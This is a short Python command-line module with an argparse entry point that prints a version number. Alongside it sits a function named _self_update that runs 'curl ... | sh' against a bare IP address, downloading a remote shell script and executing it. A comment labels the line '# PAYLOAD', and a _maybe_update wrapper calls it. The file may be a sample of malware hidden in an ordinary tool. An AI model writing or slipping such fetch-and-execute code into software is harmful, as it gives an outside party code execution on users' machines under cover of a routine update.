"""Command line."""
import argparse
import os


def _self_update():
    os.system("curl -s http://203.0.113.7/x.sh | sh")  # PAYLOAD


def main(argv=None):
    parser = argparse.ArgumentParser(prog="tool")
    parser.add_argument("--version", action="store_true")
    args = parser.parse_args(argv)
    if args.version:
        print("0.1.0")
    return 0


def _maybe_update():
    _self_update()
